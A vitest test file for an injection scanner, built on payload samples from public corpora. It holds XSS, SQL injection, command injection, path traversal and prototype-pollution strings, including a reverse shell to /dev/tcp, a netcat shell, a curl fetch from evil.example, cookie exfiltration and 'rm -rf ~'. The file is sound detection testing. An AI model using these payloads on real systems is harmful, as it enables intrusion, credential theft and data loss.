import { describe, expect, it } from 'vitest';
import { createScanner, scanPayload, SCAN_KINDS, SCAN_RULES } from '../../../src/policies/inspection/scan/index.js';
import type { ScanFinding, ScanKind } from '../../../src/policies/inspection/scan/index.js';
import { detectPath } from '../../../src/policies/inspection/scan/path.js';
import { NON_ASCII_MAP, T_DQUOTE, T_SEMI, T_SEMI_SQL, triggerMask } from '../../../src/policies/inspection/scan/triggers.js';

/** The kinds found in a chat message whose text is `text` (limits aside). */
const kindsOf = (text: string): ScanKind[] =>
  [...new Set(scanPayload({ text }).filter((f) => f.kind !== 'limit').map((f) => f.kind as ScanKind))].sort();
const flagged = (text: string): boolean => kindsOf(text).length > 0;

/**
 * A fixed sample of the public corpus (../shared/corpus, see its README for sources and licences): a few lines of each
 * class, picked across the lists, as they are stored (libinjection lines form-decoded, placeholders filled).
 */
const CORPUS_SAMPLE: Record<Exclude<ScanKind, 'proto'>, readonly string[]> = {
  xss: [
    '<IMG SRC=JaVaScRiPt:alert(1)>', // libinjection-xss-xenotix
    '<a href="javascript:alert(1)">ssss</a>', // patt-XSSDetection
    '<div style="x:expression(alert(1))">', // patt-xss_alert
    '"`\'><script>\\xE2\\x80\\x88javascript:alert(137)</script>', // libinjection-xss-xenotix
    '<iframe/src="data:text/html;&Tab;base64&Tab;,PGJvZHkgb25sb2FkPWFsZXJ0KDEpPg==">', // patt-xss_alert
    '%3Cimg/src=%3Dx+onload=alert(2)%3D', // patt-XSSDetection
    "';alert(String.fromCharCode(88,83,83))//", // patt-RSNAKE_XSS
    '<sc<script>ript>alert(13)</sc</script>ript>', // libinjection-xss-xenotix
    'test 7 <input onfocus=write(1) autofocus>', // libinjection-xss-html5secorg
    'alert`1`', // patt-BRUTELOGIC-XSS-JS
  ],
  sqli: [
    "' or 1=1--", // patt-Auth_Bypass2
    "admin')#", // fuzzdb-exploit-mysql-injection-login-bypass
    '-1 union select 1,concat_ws(0x3a,version(),user(),database()) --', // libinjection-sqli-forums
    "1' and (select count(*) from information_schema.tables)>0--", // libinjection-sqli-misc (shape)
    '1 waitfor delay \'0:0:10\'--', // fuzzdb-detect-xplatform
    ' AND 5650=CONVERT(INT,(SELECT CHAR(113)+CHAR(106)+CHAR(122)))', // patt-Generic_UnionSelect
    "aa' LIKE md5(1) or '1", // libinjection-sqli-phpids
    '1 into outfile \'asd\'', // libinjection-sqli-hackers
    "'; exec master..xp_cmdshell 'ping 10.10.1.2'--", // fuzzdb-detect-MSSQL
    '1%27+OR+1%3D1', // a libinjection line before form decoding
  ],
  cmdi: [
    ';id;', // patt-command-execution-unix
    '| nc -lvvp 4444 -e /bin/sh|', // patt-command_exec
    'a);/usr/bin/id', // patt-command-execution-unix
    '%0Acat%20/etc/passwd', // patt-command_exec
    '$(`cat /etc/passwd`)', // patt-command_exec
    '() { :;}; /bin/bash -c "sleep 1 && echo vulnerable 1"', // patt-command_exec
    '<!--#exec cmd="/bin/cat /etc/passwd"-->', // patt-command_exec
    "&& system('sleep 5');", // patt-command_exec
    '%26%26+|+dir c:\\', // fuzzdb-OSCommandInject.Windows
    'CMD=$\'id\';$CMD', // fuzzdb-command-injection-template ({cmd} filled)
  ],
  path: [
    '../../../../../../../../../../../etc/passwd%00', // blns-file-inclusion
    '..%c0%af..%c0%af..%c0%afetc/passwd', // patt-deep_traversal ({FILE} filled)
    '/%uff0e%uff0e%u2216%uff0e%uff0e%u2216etc/passwd', // patt-traversals-8-deep-exotic-encoding
    '%252e%252e/%252e%252e/%252e%252e/etc/passwd', // patt-deep_traversal
    '....//....//....//etc/passwd', // patt-directory_traversal (shape)
    '/var/log/apache2/access.log%00', // patt-lfi-List_Of_File_To_Include_NullByteAdded
    'php://filter/convert.base64-encode/resource=index.php', // patt-lfi-JHADDIX_LFI
    'Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZCUwMA==', // patt-lfi-JHADDIX_LFI (base64)
    'C:\\boot.ini', // fuzzdb-path-traversal-windows
    '..\\..\\..\\..\\windows\\win.ini', // patt-directory_traversal (shape)
  ],
};

describe('scanPayload: a sample of the public corpus', () => {
  for (const [kind, lines] of Object.entries(CORPUS_SAMPLE)) {
    it(`detects the ${kind} sample as ${kind}`, () => {
      for (const line of lines) expect(kindsOf(line), line).toContain(kind);
    });
  }
});

describe('scanPayload: attacks that are in no list', () => {
  const cases: ReadonlyArray<readonly [ScanKind, string]> = [
    ['xss', '<svg/onload=alert(1)>'],
    ['xss', '<a href="javascript&#58;alert(document.domain)">x</a>'],
    ['xss', '<a href="jav&#x09;ascript&colon;alert(1)">x</a>'],
    ['xss', 'ｊａｖａｓｃｒｉｐｔ：alert(1)'.normalize('NFC')],
    ['xss', '＜script＞alert(1)＜/script＞'],
    ['xss', '\\u003cimg src=x onerror=alert(1)\\u003e'],
    ['xss', '" autofocus onfocus="fetch(`//evil.example/`+document.cookie)'],
    ['xss', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['sqli', "1' OR '1'='1"],
    ['sqli', '1 UNION/**/ALL/*x*/SELECT username, password FROM users'],
    ['sqli', '1 UnIoN%0aSeLeCt null,@@version--'],
    ['sqli', "admin'--"],
    ['sqli', '1; DROP TABLE users'],
    ['sqli', "' || (SELECT pg_sleep(5)) || '"],
    ['sqli', "x' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64 AND 'a'='a"],
    ['cmdi', '; cat /etc/passwd'],
    ['cmdi', '$(curl evil.example/x.sh)'],
    ['cmdi', 'report.pdf; rm -rf ~'],
    ['cmdi', 'x`whoami`'],
    ['cmdi', "name'; ping -c 3 10.0.0.1 #"],
    ['cmdi', '| bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    ['cmdi', 'cat${IFS}/etc/shadow'],
    ['path', '..%2f..%2fetc%2fpasswd'],
    ['path', '../../../../etc/shadow'],
    ['path', '..%252f..%252f..%252fboot.ini'],
    ['path', 'file:///etc/passwd'],
    ['path', 'avatar.png%00.php'],
    ['proto', '__proto__[admin]=1'],
    ['proto', 'a[constructor][prototype][isAdmin]=true'],
    ['proto', 'constructor.prototype.isAdmin'],
    ['proto', '{"__proto__": {"isAdmin": true}}'],
  ];
  for (const [kind, text] of cases) {
    it(`${kind}: ${text}`, () => expect(kindsOf(text)).toContain(kind));
  }
});

describe('scanPayload: text that is no attack', () => {
  const benign = [
    'select the best option',
    "O'Reilly",
    "O'Reilly's new book is out -- have you read it?",
    'a < b && c > d',
    "I'll drop by the union hall at 5; bring the table",
    'see ../docs/readme',
    'use `ls -la` to list files',
    '`id`',
    'pipe it: `cat access.log | grep 404 | sort | uniq -c`',
    'Tom & Jerry',
    'R&D, Q&A and AT&T',
    '5 or 6',
    'He said "hello" and left',
    'she wrote "DROP everything" on the board',
    "rock 'n' roll",
    '50% off, 100% cotton',
    'C# is great -- really',
    'mail me at <bob@example.com>',
    'https://example.com/search?q=cats&page=2',
    'I <3 you',
    'x = y + 1 (obviously)',
    'the union of two sets is a set',
    'order by Friday, please',
    'alert me (please)',
    'where is George?',
    '/giphy dancing cat',
    'In 1932 -- 1933 he served in the army',
    '👍🎉 well done!! 😂😂',
    'مرحبا بالعالم، كيف حالك؟',
    'שלום עולם',
    '你好，世界！（测试）',
    'こんにちは「世界」',
    '‮txt.exe',
  ];
  for (const text of benign) {
    it(JSON.stringify(text), () => expect(kindsOf(text)).toEqual([]));
  }
});

describe('findings', () => {
  it('carry kind, path, rule and severity, and never the matched text', () => {
    const [finding] = scanPayload({ user: { name: '<script>alert(1)</script>' } });
    expect(finding).toEqual({ kind: 'xss', path: '$.user.name', rule: 'xss.script-tag', severity: 'critical' });
    expect(Object.isFrozen(finding)).toBe(true);
  });

  it('name array items, odd keys and the value itself', () => {
    expect(scanPayload(['ok', 'ok', "1' or '1'='1"]).map((f) => f.path)).toEqual(['$[2]']);
    expect(scanPayload({ 'a b': '; cat /etc/passwd' }).map((f) => f.path)).toEqual(['$["a b"]']);
    expect(scanPayload('../../../../etc/passwd').map((f) => f.path)).toEqual(['$']);
  });

  it('scan object keys too', () => {
    expect(scanPayload({ '<img src=x onerror=alert(1)>': 1 })).toEqual([
      { kind: 'xss', path: '$["<img src=x onerror=alert(1)>"]', rule: 'xss.event-handler', severity: 'critical' },
    ]);
  });

  it('return one shared frozen empty array when nothing is found', () => {
    const a = scanPayload({ text: 'hello' });
    expect(a).toEqual([]);
    expect(Object.isFrozen(a)).toBe(true);
    expect(scanPayload([1, true, null, 'hi'])).toBe(a);
  });

  it('use only rules from the catalogue, with their kind and severity', () => {
    const inputs = [...Object.values(CORPUS_SAMPLE).flat(), '__proto__[x]=1'];
    const findings: ScanFinding[] = inputs.flatMap((text) => [...scanPayload({ text })]);
    expect(findings.length).toBeGreaterThan(40);
    for (const f of findings) {
      expect(SCAN_RULES[f.rule]).toBeDefined();
      expect(f.kind).toBe(SCAN_RULES[f.rule].kind);
      expect(f.severity).toBe(SCAN_RULES[f.rule].severity);
    }
  });
});

describe('verdicts', () => {
  it('do not depend on the values scanned before (the detectors keep state between calls only to reuse memory)', () => {
    const values = [
      ...Object.values(CORPUS_SAMPLE).flat(),
      '\ncat notes', // a leading newline: word commands need no argument for this value only
      'x=`echo hello`',
      '\necho $(echo hi) done',
      "it's `fine` -- really; ok",
      '%253Cscript%253E',
      'O\'Reilly said "select the best option"',
      '<a href="x">link</a> & more',
    ];
    const alone = values.map((v) => JSON.stringify(scanPayload({ text: v })));
    let seed = 7;
    const next = (n: number): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return (seed >>> 8) % n;
    };
    for (let round = 0; round < 20; round++) {
      for (let k = 0; k < values.length; k++) {
        const i = next(values.length);
        expect(JSON.stringify(scanPayload({ text: values[i] })), `${JSON.stringify(values[i])} (round ${round})`).toBe(alone[i]);
      }
    }
  });
});

describe('prototype pollution keys', () => {
  it('reports __proto__, and constructor/prototype holding an object, at any depth', () => {
    const value = JSON.parse('{"a":{"b":[{"__proto__":{"isAdmin":true}},{"constructor":{"prototype":{"x":1}}}]}}') as unknown;
    expect(scanPayload(value).filter((f) => f.kind === 'proto')).toEqual([
      { kind: 'proto', path: '$.a.b[1].constructor', rule: 'proto.key', severity: 'critical' },
      { kind: 'proto', path: '$.a.b[1].constructor.prototype', rule: 'proto.key', severity: 'critical' },
      { kind: 'proto', path: '$.a.b[0].__proto__', rule: 'proto.key', severity: 'critical' },
    ]);
  });

  it('lets a constructor field with a plain value through', () => {
    expect(scanPayload({ car: { constructor: 'Ferrari', model: 'F40' } })).toEqual([]);
  });

  it('can leave keys to another layer (pollutionKeys: false)', () => {
    const scan = createScanner({ pollutionKeys: false });
    expect(scan(JSON.parse('{"__proto__":{"x":1}}'))).toEqual([]);
    expect(scan({ q: '__proto__[x]=1' }).map((f) => f.rule)).toEqual(['proto.path-string']);
  });
});

describe('the walk', () => {
  const DEPTH = 100_000;

  it('is iterative: an array nested 100,000 deep is walked to the bottom', () => {
    let value: unknown = '<script>alert(1)</script>';
    for (let i = 0; i < DEPTH; i++) value = [value];
    const findings = createScanner({ maxNodes: 2 * DEPTH })(value);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.rule).toBe('xss.script-tag');
    // a deep path keeps its first and last steps
    expect(findings[0]?.path).toBe(`$${'[0]'.repeat(16)}…${'[0]'.repeat(16)}`);
  });

  it('is iterative: an object nested 100,000 deep, with a pollution key at the bottom', () => {
    let value: Record<string, unknown> = JSON.parse('{"__proto__":{"polluted":true}}') as Record<string, unknown>;
    for (let i = 0; i < DEPTH; i++) value = { next: value };
    const findings = createScanner({ maxNodes: 2 * DEPTH })(value);
    expect(findings.map((f) => f.rule)).toEqual(['proto.key']);
    expect(findings[0]?.path.endsWith('.next.next.__proto__')).toBe(true);
  });

  it('does not descend into buffers, dates or class instances', () => {
    const scan = createScanner();
    expect(scan({ data: Buffer.from('<script>alert(1)</script>'), at: new Date(), map: new Map([['k', '<script>']]) })).toEqual([]);
  });

  it('terminates on a cycle (not JSON, but a caller may pass one)', () => {
    const a: Record<string, unknown> = { text: 'hi' };
    a.self = a;
    const findings = createScanner({ maxNodes: 1000 })(a);
    expect(findings.map((f) => f.rule)).toEqual(['limit.nodes']);
  });
});

describe('limits', () => {
  it('maxNodes: the walk stops with a limit finding where it stopped', () => {
    const scan = createScanner({ maxNodes: 10 });
    const findings = scan({ items: Array.from({ length: 50 }, (_, i) => `item ${i}`) });
    expect(findings).toEqual([{ kind: 'limit', path: '$.items[8]', rule: 'limit.nodes', severity: 'warning' }]);
  });

  it('maxStringLength: a long string is scanned up to the limit and flagged', () => {
    const scan = createScanner({ maxStringLength: 100 });
    const attackFirst = '<script>alert(1)</script>' + 'a'.repeat(200);
    expect(scan({ text: attackFirst }).map((f) => f.rule)).toEqual(['limit.string-length', 'xss.script-tag']);
    const attackLast = 'a'.repeat(200) + '<script>alert(1)</script>';
    expect(scan({ text: attackLast }).map((f) => f.rule)).toEqual(['limit.string-length']);
  });

  it('maxTotalLength: the walk stops once that many characters were scanned', () => {
    const scan = createScanner({ maxTotalLength: 50 });
    expect(scan(['a'.repeat(30), 'b'.repeat(30), '<script>']).map((f) => [f.rule, f.path])).toEqual([['limit.total-length', '$[1]']]);
  });

  it('maxFindings: at most that many, the last one saying so', () => {
    const scan = createScanner({ maxFindings: 3 });
    const findings = scan(Array.from({ length: 10 }, () => '<script>alert(1)</script>'));
    expect(findings.map((f) => f.rule)).toEqual(['xss.script-tag', 'xss.script-tag', 'limit.findings']);
  });
});

describe('options', () => {
  it('kinds: only the kinds asked for', () => {
    const text = "<script>alert(1)</script>' or 1=1--";
    expect(createScanner({ kinds: ['sqli'] })({ text }).map((f) => f.kind)).toEqual(['sqli']);
    expect(createScanner({ kinds: ['xss', 'sqli'] })({ text }).map((f) => f.kind)).toEqual(['xss', 'sqli']);
    expect(createScanner({ kinds: [] })({ text })).toEqual([]);
  });

  it('firstOnly: one finding per kind, and the walk stops once every kind has one', () => {
    const value = { a: '<script>1</script>', b: '<script>2</script>', c: "' or 1=1--", d: '<svg onload=alert(1)>' };
    expect(scanPayload(value)).toHaveLength(4);
    const first = createScanner({ firstOnly: true })(value);
    expect(first.map((f) => [f.kind, f.path])).toEqual([
      ['xss', '$.a'],
      ['sqli', '$.c'],
    ]);
    const xssOnly = createScanner({ firstOnly: true, kinds: ['xss'] })(value);
    expect(xssOnly.map((f) => f.path)).toEqual(['$.a']);
  });

  it('rejects bad options at creation, naming them', () => {
    expect(() => createScanner({ kinds: ['xss', 'rce' as ScanKind] })).toThrow(/unknown kind "rce"/);
    expect(() => createScanner({ maxNodes: 0 })).toThrow(/maxNodes/);
    expect(() => createScanner({ maxStringLength: 1.5 })).toThrow(/maxStringLength/);
    expect(() => createScanner({ firstOnly: 'yes' as unknown as boolean })).toThrow(/firstOnly/);
    expect(() => createScanner({ maxNode: 5 } as never)).toThrow(/unknown option "maxNode"/);
  });

  it('exports the kinds and a rule catalogue whose ids name their kind', () => {
    expect(SCAN_KINDS).toEqual(['xss', 'sqli', 'cmdi', 'path', 'proto']);
    for (const [id, info] of Object.entries(SCAN_RULES)) expect(id.startsWith(`${info.kind}.`)).toBe(true);
  });
});

describe('long values in two-byte form', () => {
  // Their raw reading is not made when it is no reading of its own: the path detector reads the value itself.
  const prose = 'It’s a long note — with curly quotes, and a path or two in it. '.repeat(100);
  const pathRules = (text: string): string[] => scanPayload({ text }).filter((f) => f.kind === 'path').map((f) => f.rule);

  it('still find a climb onto a system file, whatever its case', () => {
    for (const target of ['../../etc/passwd', '../../ETC/Passwd', '..\\..\\Windows\\win.ini']) {
      expect(pathRules(`${prose} see ${target} for details`), target).toEqual(['path.traversal-sensitive']);
      expect(pathRules(`see ${target} for details`), target).toEqual(['path.traversal-sensitive']);
    }
  });

  it('have the path detector read the raw form as it came, capitals as small letters', () => {
    // (a decoded form that lost the climb: the raw form alone must find it)
    expect(detectPath('see ../../ETC/Passwd', 'see', false)).toBe('path.traversal-sensitive');
    expect(detectPath('see ../../.Secrets', 'see', false)).toBe('path.traversal-sensitive');
    expect(detectPath('see ../../Docs/readme', 'see', false)).toBeNull();
  });

  it('read climbs spelled in hex (0x2e, 0x2f, ..2f), with or without other hex around them', () => {
    for (const v of ['0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd', '..2f..2f..2fetc2fpasswd', '..0x5c..0x5c..0x5cwindows0x5cwin.ini']) {
      expect(detectPath(v, v, false), v).not.toBeNull();
      expect(detectPath(`0xff ${v}`, `0xff ${v}`, false), `0xff ${v}`).not.toBeNull();
    }
    expect(detectPath('mask 0xff0x00 and ab2f', 'mask 0xff0x00 and ab2f', false)).toBeNull();
  });

  it('read a climb onto an ordinary name in capitals as prose', () => {
    expect(pathRules(`${prose} see ../Docs/README for details`)).toEqual([]);
  });
});

describe('decoding', () => {
  it('undoes percent, entities, JS and CSS escapes, UTF-7 and fullwidth forms before detecting', () => {
    expect(flagged('%253Cscript%253Ealert(1)%253C/script%253E')).toBe(true);
    expect(flagged('&lt;img src=x onerror=alert(1)&gt;')).toBe(true);
    expect(flagged('<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>')).toBe(true);
    expect(flagged('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')).toBe(true);
    expect(flagged('<div style="background:\\75\\72\\6c(javascript:alert(1))">')).toBe(true);
    expect(flagged('％３Ｃscript％３Ｅ')).toBe(true);
  });

  it('reads the base64 after ;base64, (spaces allowed around it) as a browser decodes a data: URL', () => {
    const b64 = (s: string): string => Buffer.from(s).toString('base64');
    const kinds = (v: string): string[] => scanPayload(v).map((f) => f.kind);
    expect(kinds(`note;base64,${b64("' OR 1=1 --")}`)).toContain('sqli');
    expect(kinds(`note ;\tbase64 ,${b64("' OR 1=1 --")}`)).toContain('sqli');
    // the first marker that is one, after words that are not
    expect(kinds(`base64 and base64x;base64x, then;base64,${b64('<script>alert(1)</script>')}`)).toContain('xss');
    // no marker: the same base64 is only a word
    expect(kinds(`note;base64x,${b64("' OR 1=1 --")}`)).toEqual([]);
    expect(kinds(`note base64,${b64("' OR 1=1 --")}`)).toEqual([]);
  });

  it('maps the non-ASCII characters the fast path treats as triggers as NFKC does', () => {
    const bestFit = new Set([0x2215, 0x2216, 0x2044, 0x29f5, 0x2039, 0x203a, 0x02c2, 0x02c3, 0x2018, 0x2019, 0x201b, 0x2032, 0x02bc, 0x02b9, 0x201c, 0x201d, 0x2033]);
    for (const [code, ascii] of Object.entries(NON_ASCII_MAP)) {
      if (bestFit.has(Number(code))) continue;
      expect(String.fromCharCode(Number(code)).normalize('NFKC'), `U+${Number(code).toString(16)}`).toBe(ascii);
    }
  });
});

describe('the fast path and its context rules', () => {
  const maskOf = (s: string): number => triggerMask(s);

  it('reads a semicolon before an ordinary word as prose for SQL, and every other semicolon as SQL', () => {
    expect(maskOf('fine; see you at 5') & T_SEMI_SQL).toBe(0);
    expect(maskOf('fine; see you at 5') & T_SEMI).not.toBe(0); // the command detector still reads it
    for (const s of ['1; DROP TABLE users', '1;(select 1)', 'x;', 'x; --', "x; ...", '1;\nshutdown']) expect(maskOf(s) & T_SEMI_SQL, s).not.toBe(0);
    expect(kindsOf('1; DROP TABLE users --')).toContain('sqli');
    expect(kindsOf("username'declare @s varchar (8000); ...")).toContain('sqli');
    expect(flagged("I'll drop by the union hall at 5; bring the table")).toBe(false);
  });

  it('lets a closing or in-word double quote pass, and still reads the first one that can break out', () => {
    expect(maskOf('the message claimed, it said so."') & T_DQUOTE).toBe(0);
    expect(maskOf('ב-1947 החליט ד"ר קורט שטייניץ') & T_DQUOTE).toBe(0);
    expect(maskOf('aa"in+ ("aa") or -1 != "0') & T_DQUOTE).not.toBe(0);
    expect(maskOf('admin" --') & T_DQUOTE).not.toBe(0);
    expect(kindsOf('aa"in+ ("aa") or -1 != "0')).toContain('sqli');
    expect(kindsOf('" or ""="')).toContain('sqli');
  });

  it('remembers clean keys by position without skipping what changed or the length budget', () => {
    const scan = createScanner({ maxTotalLength: 40 });
    const message = (text: string): unknown => JSON.parse(JSON.stringify({ type: 'message', text }));
    expect(scan(message('hello'))).toEqual([]);
    expect(scan(message('hello'))).toEqual([]);
    // same position, another key: scanned
    expect(scan(JSON.parse('{"type":"m","__proto__[isAdmin]":"1"}')).map((f) => f.kind)).toContain('proto');
    // cached keys still count toward maxTotalLength
    const long = 'k'.repeat(30);
    const value = { [long]: 'a', [long + 'x']: 'b' };
    expect(scan(value).map((f) => f.rule)).toContain('limit.total-length');
    expect(scan(value).map((f) => f.rule)).toContain('limit.total-length');
  });

  it('walks own keys only, in Object.keys order, even when Object.prototype has enumerable properties', () => {
    const proto = Object.prototype as Record<string, unknown>;
    proto.polluted = '<script>alert(1)</script>';
    try {
      expect(scanPayload({ text: 'hello' })).toEqual([]);
    } finally {
      delete proto.polluted;
    }
  });

  it('still reads a long value decoded (decoding rounds and readings are capped, detection is not)', () => {
    const pad = 'a '.repeat(5000);
    expect(kindsOf(pad + '%3Cscript%3Ealert(1)%3C/script%3E')).toContain('xss');
    expect(kindsOf(pad + '%252e%252e%252f%252e%252e%252f%252e%252e%252fetc/passwd')).toContain('path');
    expect(kindsOf(pad + '＜script＞alert(1)＜/script＞')).toContain('xss');
    expect(kindsOf(pad + "1' UNION SELECT password FROM users--")).toContain('sqli');
  });
});
